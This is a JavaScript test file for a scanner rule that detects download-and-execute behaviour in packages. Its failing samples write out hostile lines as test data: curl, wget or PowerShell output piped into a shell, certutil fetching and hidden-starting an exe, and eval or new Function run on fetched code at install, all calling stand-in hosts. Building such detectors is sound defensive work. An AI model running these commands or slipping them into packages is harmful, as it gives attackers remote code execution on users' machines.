import { ruleTable } from "../helpers.js";

ruleTable("download-execute", {
  fail: [
    { name: "curl | sh in exec", code: "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash');", atLeast: "high" },
    { name: "fetch then eval", code: "fetch(u).then((r) => r.text()).then((code) => eval(code));", installTime: true, atLeast: "high" },
    { name: "PowerShell iwr | iex", code: "const { exec } = require('child_process'); exec('powershell -c \"irm https://x.example/p.ps1 | iex\"');", atLeast: "high" },
    { name: "built command line", code: "const cp = require('child_process'); cp.exec('wget -qO- ' + host + '/s | sh');", atLeast: "high" },
    { name: "batch file fetching with certutil and starting it hidden, at install", shellScript: true, installTime: true, code: "certutil.exe -urlcache -f http://10.0.0.1/a.exe a.exe\r\nstart /B a.exe\r\n", atLeast: "high" },
    { name: "shell script: wget, chmod +x, run", shellScript: true, code: "wget -q https://x.example/agent -O /tmp/agent\nchmod +x /tmp/agent\n./agent &\n", atLeast: "medium" },
    { name: "new Function with the code last", code: "require('https').get(u, (r) => { let c = ''; r.on('data', (d) => { c += d; }); r.on('end', () => new Function('require', c)(require)); });", installTime: true, atLeast: "high" },
    { name: "wget of a script, then perl runs it, in one command", code: "require('child_process').exec('wget 203.0.113.8/m.pl -P /var/tmp && perl /var/tmp/m.pl 203.0.113.8 8888');", atLeast: "high" },
    { name: "a download written to /tmp, chmod 0777 and run, at install", installTime: true, code: "const http = require('http'); const fs = require('fs'); const cp = require('child_process'); http.get('http://' + host + '/d', (r) => { const f = fs.createWriteStream('/tmp/profound'); r.pipe(f); r.on('end', () => { fs.chmod('/tmp/profound', '0777'); cp.exec('/tmp/profound'); }); });", atLeast: "critical" },
    { name: "a token posted, the answer written to the home folder and run with node", code: "const os = require('os'); const path = require('path'); const fs = require('fs'); const axios = require('axios'); const dir = path.join(os.homedir(), '.cprice'); const fPath = path.join(dir, 'update.js'); axios.post('https://x.invalid/u').then((r) => { fs.writeFileSync(fPath, r.data); require('child_process').exec('node ' + fPath); });", atLeast: "high" },
    { name: "a batch file that downloads, written and started", code: "const fs = require('fs'); const { exec } = require('child_process'); const data = '@echo off\\ncurl -o t.b -L \"http://203.0.113.9/a\"\\nrundll32 t.b,Run'; const fileName = 'package.bat'; fs.writeFile(fileName, data, () => exec(`\"${fileName}\"`));", atLeast: "high" },
    { name: "an .exe fetched through a helper into %TEMP% and started", code: "const http = require('http'); const fs = require('fs'); const path = require('path'); const { execFileSync } = require('child_process'); const Final = path.join(process.env.TEMP, 'x.exe'); function download(u, d) { http.get(u, (r) => r.pipe(fs.createWriteStream(d))); } download('http://198.51.100.3:3000/a.exe', Final); execFileSync(Final);", atLeast: "critical" },
    { name: "curl piped into python", code: "require('child_process').exec('curl -s https://x.invalid/b.py | python3 -');", atLeast: "high" },
    { name: "eval of an awaited download (a loader)", code: "const axios = require('axios'); async function run() { const res = await axios.get('http://loader.invalid/v3/197'); eval(res.data.cookie); } run();", atLeast: "critical" },
  ],
  pass: [
    { name: "a build script that only downloads", shellScript: true, code: "curl -fsSL https://example.com/schema.json -o schema.json\nnode build.js\n" },
    { name: "docs string mentioning curl", code: "console.log('Install with: see https://example.com/docs');" },
    { name: "template compiler without network", code: "const render = new Function('data', source); module.exports = render;" },
    { name: "HTTP client without eval", code: "const https = require('https'); https.get(url, (res) => res.pipe(out));" },
    { name: "a download, then a local build script (no file in common)", code: "require('child_process').execSync('curl -sL https://example.com/schema.json -o schema.json && node scripts/gen.js');" },
    { name: "a generated file written and run with node, nothing downloaded", code: "const fs = require('fs'); fs.writeFileSync('gen.js', code); require('child_process').execSync('node gen.js');" },
    { name: "eval of a constant", code: "const axios = require('axios'); const x = eval('1 + 1'); axios.get(u);" },
    { name: "native-binary installer fallback (esbuild shape) at install time", code: "const https = require('https'); const fs = require('fs'); const cp = require('child_process'); https.get(url, (r) => r.pipe(fs.createWriteStream(bin))); fs.chmodSync(bin, 0o755); cp.execFileSync(bin, ['--version']);", installTime: true, quietBelow: "high" }, // shown for review as medium, never a verdict
  ],
});
